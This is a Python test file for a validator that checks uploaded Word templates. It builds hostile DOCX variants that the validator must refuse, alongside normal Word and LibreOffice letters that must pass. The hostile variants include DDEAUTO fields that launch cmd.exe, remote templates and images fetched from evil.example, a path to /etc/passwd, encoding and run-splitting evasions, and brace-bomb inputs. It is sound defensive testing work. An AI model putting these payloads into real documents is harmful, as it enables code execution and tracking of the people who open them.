"""Templates that offices bring: what leads outside or starts something is refused, and what Word and LibreOffice put
into any letter is not."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image

from bot.texts.exporting import memo as words
from services.exporting import memo
from services.untrusted import readings
from services.untrusted.templates import filling, package
from services.untrusted.templates.refused import TemplateRefused

OUTSIDE = "http://evil.example"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT, OF_DOCUMENT, SETTINGS = "word/document.xml", "word/_rels/document.xml.rels", "word/settings.xml"

Change = Callable[[bytes], bytes]


def letter() -> bytes:
    """What a careful officer brings: a head, a crest, a table, page numbers in the foot."""
    document = docx.Document()
    crest = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(crest, "PNG")
    crest.seek(0)
    document.add_picture(crest)
    document.add_paragraph("{{ month }}")
    document.add_table(1, 2).cell(0, 0).text = "{{ area }}"
    document.sections[0].header.paragraphs[0].text = "{{ own_name }}"
    foot = document.sections[0].footer.paragraphs[0]
    for kind in ("begin", " PAGE ", "separate", "1", "end"):
        run = foot.add_run()
        if kind == "1":
            run.text = kind
        elif kind == " PAGE ":
            run._r.append(OxmlElement("w:instrText"))
            run._r[-1].text = kind
        else:
            run._r.append(OxmlElement("w:fldChar"))
            run._r[-1].set(qn("w:fldCharType"), kind)
    simple = OxmlElement("w:fldSimple")
    simple.set(qn("w:instr"), " NUMPAGES \\* MERGEFORMAT ")
    foot._p.append(simple)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


LETTER = letter()


def changed(changes: Mapping[str, Change | bytes], base: bytes = LETTER) -> bytes:
    """The letter with parts changed or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = changes.get(name)
            content = old.read(name)
            new.writestr(name, content if change is None else change(content) if callable(change) else change)
        for name in changes.keys() - old.namelist():
            content = changes[name]
            assert isinstance(content, bytes)
            new.writestr(name, content)
    return made.getvalue()


def related(line: str) -> Change:
    return lambda content: content.replace(b"</Relationships>", line.encode() + b"</Relationships>")


def in_body(xml: str) -> dict[str, Change | bytes]:
    return {DOCUMENT: lambda content: content.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)}


def image(target: str, mode: str = 'TargetMode="External"', name: str = "Relationship") -> str:
    return f'<{name} Id="rIdX" Type="{OFFICE}/image" Target="{target}" {mode}/>'


def in_utf16(content: bytes) -> bytes:
    plain = re.sub(r"<\?xml[^>]*\?>", "", related(image(f"{OUTSIDE}/x.png"))(content).decode())
    return f'<?xml version="1.0" encoding="UTF-16"?>{plain}'.encode("utf-16")


def code(*pieces: str) -> str:
    """A field whose code lies in so many runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return f"<w:p>{mark('begin')}{runs}{mark('end')}</w:p>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instr(text: str, name: str = "instrText") -> str:
    return f'<w:r><w:{name} xml:space="preserve">{text}</w:{name}></w:r>'


ATTACHED = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/>'
DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"
ALTERNATIVES = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="nothing">{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>'
)
REFUSED: dict[str, Mapping[str, Change | bytes]] = {
    "a picture from outside": {OF_DOCUMENT: related(image(f"{OUTSIDE}/x.png"))},
    "a target that looks like a link's type": {OF_DOCUMENT: related(image(f"{OUTSIDE}/relationships/hyperlink/x.png"))},
    "a namespace prefix": {
        OF_DOCUMENT: related(image(f"{OUTSIDE}/x", f'TargetMode="External" xmlns:p="{RELS}"', "p:Relationship"))
    },
    "a character reference": {OF_DOCUMENT: related(image(f"{OUTSIDE}/x", 'TargetMode="Ext&#101;rnal"'))},
    "rels in UTF-16": {OF_DOCUMENT: in_utf16},
    "an address that says it is inside": {OF_DOCUMENT: related(image(f"{OUTSIDE}/x.png", ""))},
    "a share that says it is inside": {OF_DOCUMENT: related(image("\\\\evil.example\\x.png", ""))},
    "a part above the package": {OF_DOCUMENT: related(image("../../../etc/passwd", ""))},
    "a link to a file": {
        OF_DOCUMENT: related(image("file:///c:/x", 'TargetMode="External"').replace("/image", "/hyperlink"))
    },
    "a remote template": {
        SETTINGS: lambda content: re.sub(rb"(<w:settings[^>]*>)", rb"\1" + ATTACHED.encode(), content, count=1),
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
            f'Target="{OUTSIDE}/relationships/hyperlink/t.dotm" TargetMode="External"/></Relationships>'
        ).encode(),
    },
    "another document": {OF_DOCUMENT: related(image("media/image1.png", "").replace('/image"', '/aFChunk"'))},
    "DDEAUTO": in_body(code(f" {DDE} ")),
    "DDEAUTO in many runs": in_body(code(" D", "DE", "AUTO c:\\\\cmd.exe ")),
    "DDEAUTO in a simple field": in_body(f'<w:p><w:fldSimple w:instr=" {DDE} "/></w:p>'),
    "DDEAUTO in small letters": in_body(code(" ddeauto c:\\\\cmd.exe ")),
    "a field out of another's result": in_body(
        f"<w:p>{mark('begin')}{mark('begin')}{instr(' SUBJECT ')}{mark('end')}{instr(' c:')}{mark('end')}</w:p>"
    ),
    "a field hidden behind a deleted one": in_body(
        f"<w:p>{mark('begin')}<w:del>{instr(' PAGE ', 'delInstrText')}</w:del>{instr(DDE)}{mark('end')}</w:p>"
    ),
    "a field hidden behind an alternative": in_body(
        f"<w:p>{mark('begin')}{ALTERNATIVES.format(instr(' PAGE X'), instr('DDE'))}"
        f"{instr('AUTO c:')}{mark('end')}</w:p>"
    ),
    "a field that a placeholder would make": in_body(code(" {{ month }} c:\\\\cmd.exe ")),
    "a field between tags": in_body(code("{% if month %}", f"{DDE}{{% endif %}} PAGE ")),
    "a picture by its address in a field": in_body(code(f" INCLUDEPICTURE {OUTSIDE}/x.png ")),
    "a link to a program": in_body(code(" HYPERLINK &quot;file:///c:/windows/cmd.exe&quot; ")),
    "a link to a program behind a bookmark": in_body(code(" HYPERLINK \\l x &quot;c:\\cmd.exe&quot; ")),
    "a share in a field": in_body(code(" HYPERLINK \\\\evil.example\\x ")),
    "a field in quotation marks": in_body(code(" &quot;DDEAUTO&quot; c:\\cmd.exe ")),
    "a strict field": {
        DOCUMENT: lambda content: content.replace(
            b"<w:body>",
            b'<w:body><w:p><s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" '
            b's:instr="DDE x"/></w:p>',
        )
    },
    "a drawing by its address": in_body(
        f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{OUTSIDE}/x.png"/>'
        "</v:shape></w:pict></w:r></w:p>"
    ),
    "letters for a data source": {
        SETTINGS: lambda content: re.sub(
            rb"(<w:settings[^>]*>)", rb'\1<w:mailMerge><w:query w:val="x"/></w:mailMerge>', content, count=1
        )
    },
    "a film": in_body(f'<w:p><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="{OUTSIDE}"/></w:p>'),
    "an encoding of its own": {
        SETTINGS: lambda content: re.sub(rb"encoding=.UTF-8.", b'encoding="utf-7"', content, count=1)
    },
    "an SVG": {
        "[Content_Types].xml": lambda content: content.replace(
            b"</Types>", b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>'
        ),
        "word/media/image9.svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    },
}


@pytest.mark.parametrize("what", REFUSED)
def test_nothing_from_outside_passes(what: str) -> None:
    body = changed(REFUSED[what])
    with pytest.raises(TemplateRefused) as refused:
        filling.tried(body)
    assert refused.value.words not in (words.NO_PLACEHOLDER, words.TOO_MUCH)
    assert (refused.value.words == words.NOT_DOCX) == (what == "an encoding of its own")


def test_two_parts_of_one_name_are_refused() -> None:
    made = io.BytesIO(LETTER)
    with zipfile.ZipFile(made, "a") as opened:
        opened.writestr("WORD/document.xml", b"<other/>")
    with pytest.raises(TemplateRefused, match=re.escape(words.NOT_DOCX)):
        package.check(made.getvalue())


@pytest.mark.parametrize(
    "xml",
    [
        code(" HYPERLINK &quot;https://www.dla.go.th&quot; \\o &quot;10:00&quot; "),
        code(" HYPERLINK \\l _Toc1 \\h "),
        code(" PAGE\\* MERGEFORMAT"),
        code(' TOC \\o "1-3" \\h '),
        f"<w:p>{mark('begin')}{instr(' = ')}{mark('begin')}{instr(' PAGE ')}{mark('end')}"
        f"{instr(' + 1 ')}{mark('end')}</w:p>",
        f"<w:p>{ALTERNATIVES.format(code(' PAGE ')[5:-6], code(' NUMPAGES ')[5:-6])}</w:p>",
        f"<w:p>{mark('begin')}{mark('end')}</w:p>",
    ],
)
def test_usual_fields_pass(xml: str) -> None:
    package.check(changed(in_body(xml)))


def test_a_link_to_click_on_passes() -> None:
    line = image("https://www.dla.go.th").replace("/image", "/hyperlink")
    package.check(changed({OF_DOCUMENT: related(line)}))


def of_word() -> bytes:
    """What else Word puts into a letter: an embedded font, footnotes, who wrote in it, a label of its sensitivity."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    types = (
        f'<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        f'<Override PartName="/word/footnotes.xml" ContentType="{kind}.footnotes+xml"/>'
        f'<Override PartName="/word/people.xml" ContentType="{kind}.people+xml"/>'
        '<Override PartName="/docMetadata/LabelInfo.xml" '
        'ContentType="application/vnd.ms-office.classificationlabels+xml"/>'
    )
    people = "http://schemas.microsoft.com/office/2011/relationships/people"
    labels = "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels"
    return changed(
        {
            "[Content_Types].xml": lambda content: content.replace(b"</Types>", f"{types}</Types>".encode()),
            OF_DOCUMENT: related(
                f'<Relationship Id="r81" Type="{OFFICE}/footnotes" Target="footnotes.xml"/>'
                f'<Relationship Id="r82" Type="{people}" Target="/word/people.xml"/>'
            ),
            "_rels/.rels": related(f'<Relationship Id="r83" Type="{labels}" Target="docMetadata/LabelInfo.xml"/>'),
            "word/_rels/fontTable.xml.rels": (
                f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/font" Target="fonts/f1.odttf"/>'
                "</Relationships>"
            ).encode(),
            "word/fonts/f1.odttf": b"a face",
            "word/footnotes.xml": f'<w:footnotes xmlns:w="{WORD}"/>'.encode(),
            "word/people.xml": b'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>',
            "docMetadata/LabelInfo.xml": b'<l:labelList xmlns:l="http://schemas.microsoft.com/office/2020/mipLabelMetadata"/>',
        }
    )


@pytest.mark.parametrize(
    "make",
    [
        lambda: LETTER,
        of_word,
        # The same letter, opened and saved by LibreOffice 7.
        lambda: (Path(__file__).with_name("samples") / "libreoffice-letter.docx").read_bytes(),
        lambda: memo.builtin(thai_digits=True),
        lambda: memo.builtin(thai_digits=False),
    ],
)
def test_what_word_and_libreoffice_make_passes(make: Callable[[], bytes]) -> None:
    filling.tried(make())


# What takes long.


@pytest.mark.slow
@pytest.mark.parametrize(("opening", "how_many"), [("{{", 1_900), ("{%", 1_900), ("{{", 16_000)])
def test_thousands_of_open_placeholders_are_refused_in_bounded_time(opening: str, how_many: int) -> None:
    """At 4,000 the template library took 3 s of the whole process, at 16,000 more than a minute."""
    body = changed(in_body(f"<w:p><w:r><w:t>{opening * how_many}</w:t></w:r></w:p>"))
    with pytest.raises(TemplateRefused) as refused:
        readings.check_template(body)
    if how_many * 2 > package.MOST_BRACES:
        assert refused.value.words == words.TOO_MUCH
    else:
        assert refused.value.words in (words.TOO_MUCH, words.not_understood("")) or "อ่านช่องเติม" in refused.value.words


@pytest.mark.parametrize("brace", ["{", "&#123;", "&#0123;", "&#x7b;", "&#x007B;"])
def test_open_placeholders_are_counted_however_they_are_written(brace: str) -> None:
    body = changed(in_body(f"<w:p><w:r><w:t>{brace * (package.MOST_BRACES + 1)}</w:t></w:r></w:p>"))
    with pytest.raises(TemplateRefused) as refused:
        package.check(body)
    assert refused.value.words == words.TOO_MUCH


def test_what_nests_too_deeply_or_is_too_long_is_refused_with_a_word() -> None:
    for xml in (
        "<w:p><w:r><w:t>" + "{% if month %}" * 900 + "{% endif %}" * 900 + "</w:t></w:r></w:p>",
        "<w:p>" + "<w:ins>" * 3_000 + "</w:ins>" * 3_000 + "</w:p>",
        "<w:p><w:r><w:t>" + "x" * package.LARGEST_PART + "</w:t></w:r></w:p>",
    ):
        with pytest.raises(TemplateRefused) as refused:
            filling.tried(changed(in_body(xml)))
        assert refused.value.words in (words.TOO_MUCH, words.NOT_DOCX)
